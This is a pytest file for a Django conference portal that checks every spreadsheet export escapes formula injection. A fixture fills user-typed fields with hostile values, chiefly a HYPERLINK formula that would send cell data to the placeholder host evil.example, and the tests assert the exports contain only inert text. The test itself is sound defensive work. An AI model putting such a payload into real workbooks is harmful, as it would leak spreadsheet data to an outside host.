"""Formula injection: every workbook the portal produces is written by one writer, and none
holds a formula built from user or organizer text."""

import io
import pathlib
import re

import openpyxl
import pytest

from achievements.models import StatisticMetric
from achievements.reports import statistics_workbook
from achievements.services.statistics import save_statistics
from achievements.workbooks import statistics_template
from ciep_portal.spreadsheets import workbook_bytes
from conference.models import Zone
from exhibitors import exports as exhibitor_exports
from exhibitors.models import Booth, BoothApplication
from submissions import exports as item_exports
from submissions.kinds import SubmissionStatus
from submissions.models import Requirement, Submission
from tests.factories import LiaisonFactory, UserFactory
from units import liaison_io
from units.models import Liaison

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&E2,"点击查看")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_cells(content: bytes) -> list[str]:
    """Every cell Excel would run: a formula cell, or text that starts like one."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (
                    isinstance(cell.value, str) and cell.value.startswith(STARTS)
                ):
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return found


def shows(content: bytes, text: str) -> bool:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return any(
        isinstance(c.value, str) and text in c.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
    )


@pytest.fixture
def hostile_portal(ciep21, monkeypatch):
    """Every text a unit, an exhibitor or an organizer types, set to a live formula."""
    from tests.test_exhibitors import draft, make_exhibitor, open_for_applications

    open_for_applications(ciep21, monkeypatch)
    exhibitor = make_exhibitor(name_zh=HOSTILE, name_en=HOSTILE)
    application = draft(exhibitor)
    booth = Booth.objects.first()
    Booth.objects.filter(pk=booth.pk).update(number="-1+1", note=HOSTILE)
    Zone.objects.filter(pk=booth.zone_id).update(name_zh=HOSTILE)
    liaison = UserFactory(unit__name_zh="+" + HOSTILE, first_name=HOSTILE)
    LiaisonFactory(unit=liaison.unit, name=HOSTILE, position="@SUM(1+1)", wechat_id="-2+3")
    statistics = Requirement.objects.get(call__code="cases_national", code="statistics")
    StatisticMetric.objects.filter(requirement=statistics).update(
        name_zh=HOSTILE, unit_of_measure="=1+1", help_text=HOSTILE
    )
    cells = {(m.pk, y): "1" for m in statistics.metrics.all() for y in statistics.years}
    item = save_statistics(requirement=statistics, unit=liaison.unit, by=liaison, cells=cells)
    Submission.objects.filter(pk=item.pk).update(status=SubmissionStatus.ACCEPTED, title=HOSTILE)
    return {"statistics": statistics, "unit": liaison.unit, "application": application}


def test_no_workbook_the_portal_produces_holds_a_formula(hostile_portal):
    statistics = hostile_portal["statistics"]
    produced = {
        "items": item_exports.submission_sheet(Submission.objects.all()),
        "exhibitors": exhibitor_exports.exhibitor_list(BoothApplication.objects.all()),
        "booth plan": exhibitor_exports.booth_plan(Booth.objects.all()),
        "liaison list": liaison_io.export_liaisons(Liaison.objects.all()),
        "statistics template": statistics_template(
            statistics, unit_name=HOSTILE, data=Submission.objects.get(requirement=statistics).data
        ),
        "report workbook": statistics_workbook(statistics.call),
    }
    for name, content in produced.items():
        assert formula_cells(content) == [], name
        assert shows(content, HOSTILE), name  # the text is there, as text


def test_the_one_writer_neutralises_whatever_code_filled_in():
    book = openpyxl.Workbook()
    book.active["A1"] = HOSTILE
    book.active.append(["@cmd", 12, "普通文字", "-3"])
    content = workbook_bytes(book)
    assert formula_cells(content) == []
    values = list(openpyxl.load_workbook(io.BytesIO(content)).active.values)
    assert values[0][0] == "'" + HOSTILE and values[1][:3] == ("'@cmd", 12, "普通文字")


def test_every_workbook_is_made_and_saved_by_the_one_writer():
    """openpyxl's Workbook() is called only in ciep_portal/spreadsheets.py (new_workbook)."""
    root = pathlib.Path(__file__).resolve().parent.parent
    apps = ["achievements", "exhibitors", "publication", "submissions", "units", "accounts",
            "conference", "uploads", "notices", "ciep_portal"]  # fmt: skip
    offenders = []
    for app in apps:
        for path in (root / app).rglob("*.py"):
            if path.name == "spreadsheets.py" or "migrations" in path.parts:
                continue
            text = path.read_text()
            if re.search(r"\bWorkbook\(", text):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
